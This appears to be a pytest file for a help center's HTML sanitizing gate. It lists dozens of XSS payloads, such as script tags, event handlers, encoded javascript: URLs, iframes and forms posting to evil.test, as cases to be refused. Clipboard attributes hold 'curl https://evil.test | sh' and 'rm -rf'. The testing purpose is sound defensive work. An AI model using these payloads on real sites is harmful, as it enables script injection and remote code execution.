"""The output gate reads published HTML as a browser does: every way of getting code, another site or
another document into a page is refused, and the theme's own markup and ordinary content pass."""

from __future__ import annotations

from pathlib import Path

import material
import pytest
from helpcenter.gate_policy import CONTENT_POLICY, Policy, build_policy
from helpcenter.output_gate import Gate, check_html, check_json, check_robots, check_search_records, check_xml, locate, script_hash, theme_hooks
from mkdocs_redirects.plugin import HTML_TEMPLATE

from tests.conftest import ROOT

POLICY = build_policy([ROOT / "overrides", Path(material.__file__).parent / "templates"], [HTML_TEMPLATE])

_BLANK = (Gate(POLICY), Gate(CONTENT_POLICY))


def new_gate(policy: Policy) -> Gate:
    """Gate(policy): a gate that has judged nothing yet, its policy's tables worked out once per
    run instead of once per example (4 ms each, most of the generated examples' time)."""
    return next(gate for gate in _BLANK if gate.policy is policy).fresh()


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script, upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script from another site": '<script src="https://evil.test/x.js"></script>',
    "script from a data URL": '<script src="data:text/javascript,alert(1)"></script>',
    "script with a JSON type but code": '<script type="application/json">alert(1)</script>',
    "second config block": '<script id="__config" type="application/json">{}</script><script id="__config" type="application/json">{}</script>',
    "second search settings block": '<script id="hc-search-config" type="application/json">{}</script>'
                                    '<script id="hc-search-config" type="application/json">{}</script>',
    "JSON-LD that is not JSON": '<script type="application/ld+json">{"a": </script>',
    "event handler": '<p onclick="alert(1)">x</p>',
    "event handler, no quotes": "<img src=x onerror=alert(1) alt=x>",
    "event handler on SVG": '<svg><path d="M0" onload="alert(1)"/></svg>',
    "event handler after slash": '<img/onerror=alert(1) src=x alt=x>',
    "multi-line tag": '<a\nhref="#"\nonmouseover="alert(1)">x</a>',
    "javascript URL": '<a href="javascript:alert(1)">x</a>',
    "javascript URL, entity-encoded": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript URL, hex entities": '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>',
    "javascript URL, tab inside": '<a href="java\tscript:alert(1)">x</a>',
    "javascript URL, leading blanks": '<a href=" \x01javascript:alert(1)">x</a>',
    "vbscript URL": '<a href="vbscript:msgbox(1)">x</a>',
    "data URL link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "base": '<base href="https://evil.test/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "meta set-cookie": '<meta http-equiv="set-cookie" content="a=b">',
    "form": '<form action="https://evil.test"><input type="password" name="p"></form>',
    "form copying the theme's": '<form name="search"></form><form name="search"></form><form name="search"></form>',
    "password input": '<input type="password">',
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<p style="background:url(https://evil.test)">x</p>',
    "style on a table cell beyond alignment": '<table><tr><td style="text-align: left; background:url(x)">x</td></tr></table>',
    "iframe": '<iframe src="https://evil.test"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "SVG foreignObject": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "SVG animate href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "SVG use from another site": '<svg><use href="https://evil.test/x.svg#a"/></svg>',
    "SVG script": "<svg><script>alert(1)</script></svg>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p>x</p></noscript>",
    "image from another site": '<img src="https://cdn.test/emoji.png" alt="x">',
    "image srcset from another site": '<img src="a.png" srcset="a.png 1x, https://evil.test/b.png 2x" alt="x">',
    "protocol-relative image": '<img src="//evil.test/x.png" alt="x">',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "unknown element": "<marquee>x</marquee>",
    "link to a stylesheet elsewhere": '<link rel="stylesheet" href="https://evil.test/x.css">',
    "link import": '<link rel="import" href="x.html">',
    "comment-ended script": "<!-- --><script>alert(1)</script>",
    # Material's script acts on these wherever they are: only on the elements its templates put them on.
    "theme component on a paragraph": '<p data-md-component="search-result">x</p>',
    "copy to clipboard on a paragraph": '<p data-clipboard-text="curl https://evil.test | sh">copy</p>',
    "theme toggle, upper case": '<span DATA-MD-TOGGLE="search">x</span>',
}

INERT = {
    "paragraph and emphasis": "<p>계정 <em>비밀번호</em> <strong>확인</strong> <code>&lt;script&gt;</code></p>",
    "escaped markup in text": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "link": '<a href="../support/email/">이메일</a> <a href="https://www.coupangplay.com">x</a> <a href="mailto:a@b.test">m</a>',
    "table": "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
    "FAQ question": '<details class="question" id="q-a"><summary>질문</summary><p>답</p></details>',
    "tabbed": '<div class="tabbed-set" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio">'
              '<label for="__tabbed_1_1">A</label></div>',
    "emoji SVG": '<span class="twemoji"><svg viewBox="0 0 24 24" xmlns="http://www.w3.org/2000/svg"><path d="M1 1h2"/></svg></span>',
    "next steps block": '<aside class="hc-next-steps" aria-labelledby="x"><h2 id="x">더 도움이 필요하세요?</h2>'
                        '<ul class="hc-related"><li><a href="../faq/">FAQ</a></li></ul></aside>',
    "admonition": '<div class="admonition note"><p class="admonition-title">참고</p><p>x</p></div>',
    "keys": '<span class="keys"><kbd class="key-control">Ctrl</kbd></span>',
    "image": '<img alt="화면" src="../assets/logo.svg">',
    "JSON-LD": '<script type="application/ld+json">{"@type": "FAQPage"}</script>',
    "aligned table column": '<table><tr><th style="text-align: center;">a</th><td style="text-align: right;">1</td></tr></table>',
    "heading permalink": '<h2 id="계정">계정<a class="headerlink" href="#계정" title="Permanent link">&para;</a></h2>',
    "definition list": "<dl><dt>용어</dt><dd>뜻</dd></dl>",
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_markup_is_found(case):
    assert check_html(HOSTILE[case], POLICY), case


@pytest.mark.parametrize("case", list(INERT))
def test_ordinary_content_and_theme_blocks_pass(case):
    assert check_html(INERT[case], POLICY) == []


def test_only_the_theme_s_known_inline_scripts_run():
    known = "var a=1"
    assert check_html(f"<script>{known}</script>", POLICY, frozenset({script_hash(known)})) == []
    assert check_html(f"<script>{known};alert(1)</script>", POLICY, frozenset({script_hash(known)}))


def test_meta_refresh_only_in_redirect_pages():
    refresh = '<meta http-equiv="refresh" content="0; url=../support/methods/">'
    assert check_html(refresh, POLICY)
    assert check_html(refresh, POLICY, redirect=True) == []
    assert check_html('<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', POLICY, redirect=True)


def test_search_records_are_text_at_an_address_of_the_site():
    # search.js inserts records as text: markup in them is shown as written, not refused.
    inert = [{"url": "/faq/#q-1", "title": "<img src=x onerror=alert(1)> 가 나", "content": "<p>ok</p>"},
             {"location": "support/email/", "title": "ok", "content": "&lt;b&gt;", "headings": ""}]
    assert check_search_records(inert) == []
    hostile = {"javascript:alert(1)": {"title": "x"}, "//evil.test/": {"title": "x"}, '/x/" onclick="a': {"title": "x"},
               "/bidi/": {"title": "계정\u202e결제"}, "/nul/": {"content": "a\x00b"}, "/list/": {"title": ["not", "text"]},
               "/ok/\\evil": {"title": "x"}}
    for url, record in hostile.items():
        assert [found for found, _ in check_search_records([{"url": url, **record}])] == [url], url


def test_the_theme_s_hooks_in_content_are_found_as_attributes_only():
    assert theme_hooks('<p>Use <code>data-md-component</code> in templates</p>') == []
    assert theme_hooks('<pre><code>&lt;div data-clipboard-text="x"&gt;</code></pre>') == []
    found = theme_hooks('<p data-clipboard-text="rm -rf">copy</p><div DATA-MD-COMPONENT="x"></div>')
    assert [f.needle for f in found] == ["data-clipboard-text", "data-md-component"]


def test_published_text_files():
    site = "https://help.example.test/"
    sitemap = ('<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
               'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>{loc}</loc><xhtml:link rel="alternate" hreflang="en" '
               'href="{href}"/></url></urlset>')
    assert check_xml(sitemap.format(loc=site + "faq/", href=site + "en/faq/"), site) == []
    for loc, href in [("javascript:alert(1)", site), (site, "https://evil.test/"), (site + "a\u202eb/", site)]:
        assert check_xml(sitemap.format(loc=loc, href=href), site), (loc, href)
    assert check_xml('<!DOCTYPE u [<!ENTITY a "b">]><u/>', site)
    assert check_xml("<u><loc>", site)
    assert check_robots(f"User-agent: *\nAllow: /\n\nSitemap: {site}sitemap.xml\n") == []
    assert check_robots("User-agent: *\nDisallow: /\n<script>alert(1)</script>\n")
    assert check_robots("Sitemap: javascript:alert(1)\n")
    assert check_json('{"ko": {"비번": ["비밀번호"]}}') == []
    assert check_json('{"a": ') and check_json('{"a": ["x\u202ey"]}') and check_json('{"x\\u0000": 1}')


def test_a_finding_names_the_source_line():
    finding = check_html('<p onclick="x">', POLICY)[0]
    assert locate(finding.needle, {"docs/ko/a.md": "# A\n\ntext\n{ onclick=\"x\" }\n"}) == ("docs/ko/a.md", 4)
    # Written with character references, the page's text does not hold the finding's javascript: as
    # the browser reads it; the line that wrote it is still the one named, not the file's first.
    for written in ('<a href="&#0000106;avascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>'):
        (encoded,) = check_html(written, POLICY)
        assert locate(encoded.needle, {"docs/ko/b.md": "# B\n\ntext\n\n" + written + "\n"}) == ("docs/ko/b.md", 5), encoded
    (host_only,) = check_html('<a href="//evil.example/x">x</a>', POLICY)
    assert "without https:" in host_only.message and "'//:'" not in host_only.message  # said as an address, not a scheme


def test_the_real_site_passes(site):
    # Every page of the real build passed the gate during the build; the gate fails a strict build.
    assert (site / "_headers").is_file()
    assert 'http-equiv="Content-Security-Policy"' in (site / "index.html").read_text(encoding="utf-8")


def test_published_search_fragments_are_read_as_records():
    import gzip
    import json

    from security_headers import _fragment_record

    def fragment(meta: dict) -> bytes:
        return gzip.compress(b"pagefind_dcd" + json.dumps({"url": "/1.html", "content": "본문", "meta": meta}).encode())

    assert check_search_records([_fragment_record(fragment({"url": "/faq/#q-1", "title": "<b>질문</b>"}))]) == []
    assert check_search_records([_fragment_record(fragment({"url": "javascript:alert(1)", "title": "x"}))])
    assert check_search_records([_fragment_record(b"not gzip")])  # unreadable: no address, reported


def test_a_search_record_is_remembered_only_when_it_passed(tmp_path):
    # A warm rebuild skips the fragments it already passed, by their exact bytes; a bad one is
    # reported by every build, and a fragment changed by one byte is read again.
    import gzip
    import json
    from types import SimpleNamespace

    from security_headers import _gate_fragment

    def fragment(url: str) -> bytes:
        return gzip.compress(b"pagefind_dcd" + json.dumps({"url": "/1.html", "content": "본문", "meta": {"url": url, "title": "t"}}).encode(), mtime=0)

    gate = SimpleNamespace(root=tmp_path, config_text="", data_texts={}, seen=set(), passed={}, findings=[])
    for _ in range(2):
        _gate_fragment(gate, fragment("javascript:alert(1)"))
    assert len(gate.findings) == 2 and not gate.passed
    _gate_fragment(gate, fragment("/faq/#q-1"))
    assert len(gate.passed) == 1 and gate.seen >= set(gate.passed)
    _gate_fragment(gate, fragment('/faq/#q-1"'))  # one byte more, and a quote that ends the link
    assert len(gate.findings) == 3
